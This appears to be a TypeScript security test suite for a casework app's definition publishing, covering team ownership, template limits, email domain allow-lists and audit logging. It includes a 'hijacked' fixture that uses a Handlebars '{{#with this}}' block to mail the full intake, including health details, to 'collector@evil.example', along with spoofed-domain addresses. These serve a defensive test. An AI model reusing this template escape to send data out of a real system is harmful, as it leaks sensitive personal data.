/**
 * What bounds a designer: a definition belongs to one team, whose designers (and admins) publish it;
 * its templates show only the values they list; its fixed addresses stay in the allowed domains
 * unless an admin approved them; and every publication is in the audit log admins read.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect } from 'chai';
import knex from 'knex';
import { DEFINITIONS_DIR, loadDefinitionFiles } from '../../definitions/loader';
import { publishDefinitionFiles } from '../../store/publish-definition-files';
import { definitionSchema, type DefinitionInput } from '../../common/definition-schema';
import { dbConfig, openDb } from '../../store/db';
import { listDefinitionOwners } from '../../store/definition-owners';
import { migrationSource } from '../../store/migrations';
import { quickCase } from '../fixtures/definitions';
import { eventually } from '../helpers/eventually';
import { startSystem, type Reply, type TestSystem, type TestUser } from '../helpers/system';

const ALLOWED = ['example.org'];
const INTAKE = { client_name: 'Sam Lee', client_email: 'sam@example.org', eligible: true, description: 'Sam has a heart condition and is on sick leave' };

/** A grievance case of team alpha that acknowledges each new case to the team's case managers. */
const grievance: DefinitionInput = {
  ...quickCase,
  key: 'grievance',
  name: 'Grievance',
  team: 'alpha',
  forms: { ...quickCase.forms, intake: [...quickCase.forms.intake, { name: 'description', type: 'text' }] },
  notifications: [{ on: 'case_opened', to: [{ role: 'case_manager' }], subject: 'New case {{case.id}}', body: '{{case.title}} was opened.' }],
};

/** What a designer of another team tried: the whole intake, by a block the old check did not look into, to an outside address. */
const hijacked: DefinitionInput = {
  ...grievance,
  notifications: [{ on: 'case_opened', to: [{ address: 'collector@evil.example' }], subject: 'Intake {{case.id}}', body: '{{#with this}}{{#each intake}}{{@key}}: {{this}}\n{{/each}}{{/with}}' }],
};

const withRule = (rule: NonNullable<DefinitionInput['notifications']>[number], d: DefinitionInput = grievance): DefinitionInput => ({ ...d, notifications: [...(d.notifications ?? []), rule] });
const fields = (res: Reply) => (res.body.errors ?? []).map((e: { field: string }) => e.field);

describe('security: what bounds a designer', () => {
  let sys: TestSystem;
  let alphaDesigner: TestUser, betaDesigner: TestUser, alphaManager: TestUser;
  const versions = async (key: string) => (await sys.http.get(`/definitions/${key}/versions`)).body.items?.length ?? 0;

  before(async () => {
    sys = await startSystem({ definitions: [grievance], notifyAllowedDomains: ALLOWED });
    alphaDesigner = await sys.addUser({ id: 'ada-designer', roles: ['designer'], teams: ['alpha'] });
    betaDesigner = await sys.addUser({ id: 'bert-designer', roles: ['designer'], teams: ['beta'] });
    alphaManager = await sys.addUser({ id: 'alma-manager', roles: ['case_manager'], teams: ['alpha'] });
  });
  after(async () => sys?.stop());

  it("refuses a designer of another team a team's definition with 403, whatever the body, and saves nothing", async () => {
    expect((await sys.http.get('/definitions/grievance')).body.ownerTeam).to.equal('alpha');
    for (const body of [hijacked, grievance, { ...grievance, name: 'Grievance (renamed)' }]) {
      const res = await sys.as(betaDesigner).put('/definitions/grievance', body);
      expect(res.status, JSON.stringify(res.body)).to.equal(403);
      expect(res.headers.get('content-type')).to.match(/^application\/problem\+json/);
      expect(res.body.detail).to.equal("the definition 'grievance' belongs to team 'alpha'; only its designers and admins may publish it");
    }
    expect(await versions('grievance')).to.equal(1);

    const mine = await sys.as(alphaDesigner).put('/definitions/grievance', { ...grievance, name: 'Grievance (renamed)' });
    expect(mine.status, JSON.stringify(mine.body)).to.equal(201);
    expect(mine.body).to.include({ version: 2, createdBy: 'ada-designer', ownerTeam: 'alpha' });
  });

  it('gives a new definition to the team it names, or else to its first publisher\'s, and keeps it there', async () => {
    const own = await sys.as(betaDesigner).put('/definitions/beta-case', { ...quickCase, key: 'beta-case', team: undefined });
    expect(own.status, JSON.stringify(own.body)).to.equal(201);
    expect(own.body.ownerTeam).to.equal('beta');
    expect((await sys.as(alphaDesigner).put('/definitions/beta-case', { ...quickCase, key: 'beta-case', team: undefined, name: 'Mine now' })).status).to.equal(403);

    // Cases of a designer's definition go only to a team of theirs.
    for (const res of [await sys.as(betaDesigner).put('/definitions/beta-case', { ...quickCase, key: 'beta-case', team: 'alpha' }), await sys.as(betaDesigner).post('/definitions/validate', { ...quickCase, key: 'other', team: 'alpha' })]) {
      expect(res.status, JSON.stringify(res.body)).to.equal(403);
      expect(fields(res)).to.deep.equal(['team']);
    }
    const byAdmin = await sys.http.put('/definitions/admin-case', { ...quickCase, key: 'admin-case', team: 'gamma' });
    expect(byAdmin.body.ownerTeam).to.equal('gamma');
    expect(await versions('beta-case')).to.equal(1);
  });

  it("refuses the owning team's designer a template that reaches past its listed values, naming the template", async () => {
    const res = await sys.as(alphaDesigner).put('/definitions/grievance', { ...hijacked, notifications: [{ ...hijacked.notifications![0], to: [{ role: 'case_manager' }] }] });
    expect(res.status, JSON.stringify(res.body)).to.equal(422);
    expect(fields(res)).to.deep.equal(['notifications[0].body']);
    expect(res.body.errors[0].message).to.match(/'\{\{#with this\}\}' is not available/);
    const logged = await sys.as(alphaDesigner).post('/definitions/validate', withRule({ on: 'case_opened', to: [{ role: 'case_manager' }], subject: '{{log intake.description}}x', body: 'x' }));
    expect(logged.status).to.equal(422);
    expect(fields(logged)).to.deep.equal(['notifications[1].subject']);
    expect(await versions('grievance')).to.equal(2);
  });

  it('keeps fixed addresses to NOTIFY_ALLOWED_DOMAINS unless an admin approved them for the definition', async () => {
    const outside = ['collector@evil.example', 'Collector@EVIL.example', 'x@example.org.evil.example', 'x@sub.example.org'];
    for (const address of outside) {
      const res = await sys.as(alphaDesigner).put('/definitions/grievance', withRule({ on: 'case_opened', to: [{ role: 'supervisor' }, { address }], subject: 'x', body: 'x' }));
      expect(res.status, `${address}: ${JSON.stringify(res.body)}`).to.equal(422);
      expect(fields(res)).to.deep.equal(['notifications[1].to[1].address']);
      expect(res.body.errors[0].message).to.contain("is outside the domains notifications may go to (example.org); an admin approves it for 'grievance'");
    }
    expect(await versions('grievance')).to.equal(2);

    const inside = await sys.as(alphaDesigner).put('/definitions/grievance', withRule({ on: 'case_opened', to: [{ address: 'hr-team@example.org' }], subject: 'x', body: 'x' }));
    expect(inside.status, JSON.stringify(inside.body)).to.equal(201);

    // An admin's version approves its addresses for this definition: its designers may then keep them.
    const partner = withRule({ on: 'case_closed', to: [{ address: 'auditor@partner.example' }], subject: 'Closed {{case.id}}', body: '{{closure.reason}}' });
    expect((await sys.as(alphaDesigner).put('/definitions/grievance', partner)).status).to.equal(422);
    expect((await sys.http.put('/definitions/grievance', partner)).status).to.equal(201);
    const kept = await sys.as(alphaDesigner).put('/definitions/grievance', { ...partner, name: 'Grievance, with the auditor' });
    expect(kept.status, JSON.stringify(kept.body)).to.equal(201);
    expect((await sys.as(betaDesigner).put('/definitions/beta-case', withRule({ on: 'case_closed', to: [{ address: 'auditor@partner.example' }], subject: 'x', body: 'x' }, { ...quickCase, key: 'beta-case', team: undefined }))).status).to.equal(422);
  });

  it("sends the next case's intake to no address outside after another team's designer tried to republish the definition", async () => {
    // The plain way, which no template check stops: name the field, send it outside.
    const plain = { ...hijacked, notifications: [{ ...hijacked.notifications![0], body: 'Description: {{intake.description}}' }] };
    const attempts = [(await sys.as(betaDesigner).put('/definitions/grievance', plain)).status, (await sys.as(betaDesigner).put('/definitions/grievance', hijacked)).status];
    const opened = await sys.as(alphaManager).post('/cases', { definition: 'grievance', title: 'Shift allocation', intake: INTAKE });
    expect(opened.status, JSON.stringify(opened.body)).to.equal(201);
    const mails = await eventually(async () => {
      const sent = sys.smtp!.messages.filter((m) => m.subject.includes(opened.body.id));
      expect(sent.length).to.be.greaterThan(0);
      return sent;
    });
    for (const mail of mails) {
      expect(mail.to.every((to) => to.endsWith('@example.org')), mail.to.join(', ')).to.equal(true);
      expect(mail.text).not.to.include('heart condition');
    }
    expect(sys.smtp!.messages.flatMap((m) => m.to).filter((to) => !to.endsWith('@example.org'))).to.deep.equal([]);
    expect(attempts).to.deep.equal([403, 403]);
  });

  it('records every publication in the audit log, which only admins read', async () => {
    const log = await sys.http.get('/audit?subject=definition:grievance&limit=200');
    expect(log.status).to.equal(200);
    const entries = log.body.items as Array<{ id: number; actor: string; action: string; subject: string; details: Record<string, unknown>; at: string }>;
    expect(entries.map((e) => e.details.version)).to.deep.equal([5, 4, 3, 2, 1]);
    expect(entries.map((e) => e.actor)).to.deep.equal(['ada-designer', 'admin', 'ada-designer', 'ada-designer', 'test']);
    for (const e of entries) expect(e).to.deep.include({ action: 'definition.published', subject: 'definition:grievance' }).and.to.have.property('at').that.is.a('string');
    expect(entries[1].details).to.deep.include({ team: 'alpha', approvedAddresses: ['auditor@partner.example'] });
    expect(entries.at(-1)!.details).to.deep.include({ version: 1, team: 'alpha', teamAssigned: true });

    const page = await sys.http.get(`/audit?subject=definition:grievance&limit=2&before=${entries[1].id}`);
    expect(page.body.items.map((e: { details: { version: number } }) => e.details.version)).to.deep.equal([3, 2]);
    expect((await sys.http.get('/audit?actor=bert-designer')).body.items.map((e: { subject: string }) => e.subject)).to.deep.equal(['definition:beta-case']);
    for (const who of [alphaDesigner, betaDesigner, alphaManager]) expect((await sys.as(who).get('/audit')).status).to.equal(403);
    const bad = await sys.http.get('/audit?action=user.deleted');
    expect(bad.status).to.equal(422);
    expect(fields(bad)).to.deep.equal(['query.action']);
  });
});

describe('security: definitions on record when ownership came in', () => {
  it('gives each the team its first version names, else its first publisher\'s; approves addresses only of the folder\'s and admins\' versions', async () => {
    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'casework-owners-'));
    const db = knex(dbConfig({ dataDir }));
    try {
      const earlier = (await migrationSource.getMigrations([])).filter((name) => name < '012');
      for (const name of earlier) await db.migrate.up({ migrationSource, name });
      const user = (id: string, roles: string[], teams: string[]) => ({ id, name: id, email: `${id}@example.org`, roles: JSON.stringify(roles), teams: JSON.stringify(teams), active: true, created_at: '2026-01-01T00:00:00.000Z' });
      await db('users').insert([user('alice', ['designer'], ['alpha', 'delta']), user('mallory', ['designer'], ['beta']), user('root', ['admin'], ['default'])]);
      const version = (key: string, n: number, by: string, input: DefinitionInput) => {
        const content = JSON.stringify(definitionSchema.parse({ ...input, key }));
        return { key, version: n, hash: `${key}-${n}`, content, created_by: by, created_at: '2026-01-01T00:00:00.000Z' };
      };
      const to = (address: string): DefinitionInput => ({ ...quickCase, notifications: [{ on: 'case_opened', to: [{ address }], subject: 'x', body: 'x' }] });
      await db('definition_versions').insert([
        version('named', 1, 'mallory', { ...to('ops@partner.example'), team: 'gamma' }),
        version('named', 2, 'definitions-folder', { ...to('ops@partner.example'), team: 'beta' }),
        version('unnamed', 1, 'alice', { ...to('outsider@evil.example'), team: undefined }),
        version('unnamed', 2, 'mallory', { ...to('collector@evil.example'), team: 'beta' }),
        version('nobodys', 1, 'someone-gone', { ...to('board@partner.example'), team: undefined }),
        version('nobodys', 2, 'root', { ...to('board@partner.example'), team: undefined }),
      ]);

      await db.migrate.latest({ migrationSource });
      expect(Object.fromEntries(await listDefinitionOwners(db))).to.deep.equal({ named: 'gamma', unnamed: 'alpha' });
      const approved = await db('approved_addresses').orderBy(['key', 'address']).select('key', 'address', 'approved_by');
      expect(approved).to.deep.equal([
        { key: 'named', address: 'ops@partner.example', approved_by: 'definitions-folder' },
        { key: 'nobodys', address: 'board@partner.example', approved_by: 'root' },
      ]);
    } finally {
      await db.destroy();
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });

  it('gives the shipped definitions the teams their files name', async () => {
    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'casework-owners-'));
    const db = await openDb({ dataDir });
    try {
      await publishDefinitionFiles(db, DEFINITIONS_DIR);
      const named = Object.fromEntries(loadDefinitionFiles(DEFINITIONS_DIR).map(({ definition }) => [definition.key, definition.team]));
      expect(Object.fromEntries(await listDefinitionOwners(db))).to.deep.equal(named);
      expect(Object.values(named).every(Boolean)).to.equal(true);
    } finally {
      await db.destroy();
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });
});
